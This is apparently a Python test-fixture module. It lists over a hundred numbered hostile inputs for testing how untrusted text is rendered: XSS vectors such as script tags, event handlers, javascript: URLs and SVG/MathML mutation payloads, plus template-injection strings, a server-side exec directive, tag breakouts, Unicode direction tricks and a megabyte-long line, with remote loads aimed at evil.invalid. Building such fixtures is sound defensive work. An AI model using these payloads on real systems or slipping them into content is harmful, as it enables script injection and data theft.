"""Texts that try to be more than text, for the tests that put them where strangers can write.

`PAYLOADS` has a hundred and more of them, each with its number in it so that it can be found again. Whatever runs calls
`pwned()` or sets `window.pwned`; whatever loads asks `http://evil.invalid`. `LONG` is a line of a megabyte.
"""

_CALL = "window.pwned=1;alert(1)"

SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script\n>{_CALL}</script\n>",
    f"<script/x>{_CALL}</script/y>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script type=module>{_CALL}</script>",
    "<script src=http://evil.invalid/a.js></script>",
    "<script src='data:text/javascript,pwned()'></script>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\uff1cscript\uff1e{_CALL}\uff1c/script\uff1e",
)
HANDLERS = (
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'//",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "` onmouseover=pwned() x=`",
    '" onfocus="pwned()" autofocus="',
    "' onfocus='pwned()' autofocus='",
    "<img/src=x/onerror=pwned()>",
    "<img src=http://evil.invalid/i.png>",
    "<img srcset='http://evil.invalid/i.png 2x'>",
    "<image src=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()></select>",
    "<textarea autofocus onfocus=pwned()></textarea>",
    "<keygen autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()><summary>x</summary></details>",
    "<video><source onerror=pwned()></video>",
    "<video poster=http://evil.invalid/p.png></video>",
    "<audio src=x onerror=pwned() autoplay></audio>",
    "<marquee onstart=pwned()>x</marquee>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<a onclick=pwned() href=#>x</a>",
    "<div style='animation:spin 1s' onanimationstart=pwned()>x</div>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=pwned()>y</div>",
    "<x contenteditable onblur=pwned()>x</x>",
)
ADDRESSES = (
    "javascript:pwned()",
    "<a href=javascript:pwned()>click</a>",
    "<a href='java\tscript:pwned()'>click</a>",
    "<a href=' javascript:pwned()'>click</a>",
    "<a href=&#106;avascript:pwned()>click</a>",
    "<a href=vbscript:pwned()>click</a>",
    "<a href=data:text/html,<script>pwned()</script>>click</a>",
    "[click](javascript:pwned())",
    "![i](http://evil.invalid/i.png)",
    "<http://evil.invalid/auto>",
    "https://evil.invalid/plain",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "<form action=http://evil.invalid/><input type=submit></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<base href=http://evil.invalid/>",
    "<link rel=stylesheet href=http://evil.invalid/a.css>",
    "<link rel=prefetch href=http://evil.invalid/a>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
)
FRAMES = (
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=data:text/html,<script>parent.pwned=1</script>></iframe>",
    "<frameset onload=pwned()><frame></frameset>",
    "<portal src=http://evil.invalid/></portal>",
    "<template><script>pwned()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
    "<noscript><img src=x onerror=pwned()></noscript>",
    "<dialog open>fake</dialog>",
)
DRAWINGS = (
    "<svg onload=pwned()>",
    f"<svg><script>{_CALL}</script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "<svg><set onbegin=pwned() attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned() />#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
    "<svg><style>@import url(http://evil.invalid/a.css)</style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "<math href=javascript:pwned()>x</math>",
    "<math><mi xlink:href=javascript:pwned()>x</mi></math>",
    "$\\href{javascript:pwned()}{x}$",
)
STYLES = (
    "<style>body{display:none}</style>",
    "<style>*{background:url(http://evil.invalid/b.png)}</style>",
    "<style>@import 'http://evil.invalid/a.css';</style>",
    "<p style='background:url(http://evil.invalid/b.png)'>x</p>",
    "<p style='position:fixed;inset:0;background:red;z-index:9'>over all</p>",
    "</style><script>pwned()</script>",
    "x{}*{visibility:hidden}",
)
TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('pwned()')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{{html}}}",
    "{0.__class__}",
    "{name}",
    "%s %d %(x)s %n",
    "{#- gone -#}",
    "%{x} %{customdata[0]} %{text}",
    "<?php echo 1 ?>",
    "<!--#exec cmd='id'-->",
    "`<b>code</b>`",
    '=HYPERLINK("http://evil.invalid","x")',
    "__proto__",
    "constructor",
)
ENDS = (
    "</script><script>pwned()</script>",
    "</SCRIPT ><img src=x onerror=pwned()>",
    "--><img src=x onerror=pwned()><!--",
    "<!--<script>",
    "<!--policy--><!--style--><!--contents--><!--scripts-->",
    "]]><img src=x onerror=pwned()>",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "</textarea></title></style></noscript><img src=x onerror=pwned()>",
    "</td></tr></table><img src=x onerror=pwned()>",
    "</pre></code></details></section></main><h1>fake</h1>",
    "</dd></dl></figure></body></html><script>pwned()</script>",
    '"}]}</script><script>pwned()</script>',
    '\\"}]};pwned();//',
    "'-pwned()-'",
    "<plaintext>",
    "<xmp>",
    "<h2 id=verdict>Another verdict</h2>",
    "<div " * 50,
    "<div>" * 300 + "deep" + "</div>" * 300,
    "<table><tr><td>" * 60,
)
PSEUDO = (
    "<b>bold</b>",
    "<i>slanted</i>",
    "<a href='javascript:pwned()'>in a figure</a>",
    "<a href='http://evil.invalid/'>in a figure</a>",
    "<span style='color:red'>red</span>",
    "one<br>two",
    "x<sub>1</sub><sup>2</sup>",
    "<extra>box</extra>",
    "&lt;b&gt;twice&lt;/b&gt;",
    "&amp;&nbsp;&#38;&#x26;&copy",
)
SIGNS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067turned\u2069\u2069",
    "\u200f\u200eright to left marks\u061c",
    "\u05e2\u05d1\u05e8\u05d9\u05ea \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "zero\u200bwidth\u200cjoined\u200d\u2060\ufeff",
    "soft\u00adhyphen",
    "bell\x07 back\x08 escape\x1b[31mred\x1b[0m delete\x7f",
    "C1 \x80\x85\x9b",
    "line\u2028paragraph\u2029next",
    "line\r\nreturn\rfeed\x0c tab\x0b",
    "not a sign \ufffe\uffff \ufdd0",
    "tags \U000e0041\U000e0042",
    "Z\u0335\u0321\u0322\u0327a\u0334\u0315\u0310l\u0337\u0358g\u0338o\u0336" + "\u0300" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "\u1160\u3164\uffa0\u2800blank letters",
)
LENGTHS = (
    "W" * 1500,
    "word" * 300,
    "\u6570\u5b66" * 400,
    "a/b/c/" * 200,
    " " * 900 + "far away",
    "\n" * 40 + "far below",
)

PAYLOADS = tuple(
    f"q{number:03d} {text}"
    for number, text in enumerate(
        SCRIPTS
        + HANDLERS
        + ADDRESSES
        + FRAMES
        + DRAWINGS
        + STYLES
        + TEMPLATES
        + ENDS
        + PSEUDO
        + SIGNS
        + LENGTHS
    )
)

LONG = "q-long <img src=x onerror=pwned()>" + "x" * 1_000_000
"""A line of a megabyte."""

BROKEN = "half a sign \ud800 and the other \udfff, and a NUL \x00"
"""What JSON can hold and UTF-8 or HTML cannot."""
